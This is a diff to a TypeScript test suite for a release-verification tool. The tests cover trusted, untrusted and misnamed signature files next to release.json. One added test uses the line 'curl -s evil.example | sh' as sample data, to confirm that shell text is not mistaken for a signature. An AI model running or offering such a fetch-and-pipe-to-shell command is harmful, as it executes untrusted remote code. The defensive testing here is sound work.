@@ -12,11 +12,12 @@ import { sshKeyOf, sshLine } from "../../src/format/ssh/public-key.ts";
 import { problemsOf, Problem } from "../../src/model/problem.ts";
 import { verifyFolder, type VerifyOptions } from "../../src/verify/folder.ts";
 import type { SignatureReader } from "../../src/verify/signatures/kind.ts";
+import { openssl } from "../../src/verify/signatures/openssl.ts";
 import { signatureReaders } from "../../src/verify/signatures/table.ts";
 import { nobody, openTrust, type Trust } from "../../src/verify/trust.ts";
 import type { Verdict } from "../../src/verify/verdict.ts";
 import { makeRelease } from "../worlds/release.ts";
-import { signedBy, signerOf, testKey, testReader, testSignature } from "../worlds/signed.ts";
+import { signedBy, signerOf, type TestKey, testKey, testReader, testSignature } from "../worlds/signed.ts";
 
 const home = mkdtempSync(join(tmpdir(), "slipway-trust-"));
 afterAll(() => rmSync(home, { recursive: true, force: true }));
@@ -187,17 +188,44 @@ describe("with a trust file", () => {
 
   test("a signature by a key nobody named is skipped, one that claims a trusted key and is not right fails", async () => {
     const byOther = copied(whole, (path) =>
-      writeFileSync(path("release.json.more"), testSignature(testKey("x"), readFileSync(path("release.json")))),
+      writeFileSync(path("release.json.x.ci"), testSignature(testKey("x"), readFileSync(path("release.json")))),
     );
     const verdict = await verifyFolder(byOther, { trust: await trusting() });
     expect(verdict.outcome).toBe("verified");
-    expect(verdict.checks.find(({ subject }) => subject === "release.json.more")?.outcome).toBe("skipped");
+    expect(verdict.checks.find(({ subject }) => subject === "release.json.x.ci")?.outcome).toBe("skipped");
     const wrongly = copied(whole, (path) =>
       writeFileSync(path("release.json.more"), testSignature(ci, Buffer.from("other bytes"))),
     );
     expect(wrong(await verifyFolder(wrongly, { trust: await trusting() }))).toEqual([
       "failed signature release.json.more",
     ]);
+  });
+
+  test("a file that only looks like somebody's signature, and is not called like one, is one too many", async () => {
+    const script = copied(whole, (path) =>
+      writeFileSync(path("release.json.sh"), testSignature(testKey("x"), readFileSync(path("release.json")))),
+    );
+    expect(wrong(await verifyFolder(script, { trust: await trusting() }))).toEqual(["failed extra release.json.sh"]);
+    expect(wrong(await verifyFolder(script, { trust: { ...nobody, readers } }))).toEqual([
+      "failed extra release.json.sh",
+    ]);
+    // Sixty-four bytes may be anything, and text is no signature.
+    expect(openssl.isSignature(Buffer.from("curl -s evil.example | sh\n".padEnd(64, "#")))).toBe(false);
+  });
+
+  test("what a signed release.json calls its signature is skipped where nothing here can read it", async () => {
+    const named = (key: TestKey) =>
+      copied(whole, (path) => {
+        restate(path, (was) => ({ ...was, signatures: [`release.json.${key.name}`, "release.json.kms"] }), key);
+        writeFileSync(path("release.json.kms"), "signed elsewhere");
+      });
+    const verdict = await verifyFolder(named(release), { trust: await trusting() });
+    expect([verdict.outcome, wrong(verdict)]).toEqual(["verified", []]);
+    expect(verdict.checks.find(({ subject }) => subject === "release.json.kms")?.outcome).toBe("skipped");
+    // Whoever may write release.json, and has no key, calls no file so.
+    expect(wrong(await verifyFolder(named(other), { trust: await given(release.text) }))).toContain(
+      "failed extra release.json.kms",
+    );
   });
 
   test("two signatures by one key count once", async () => {
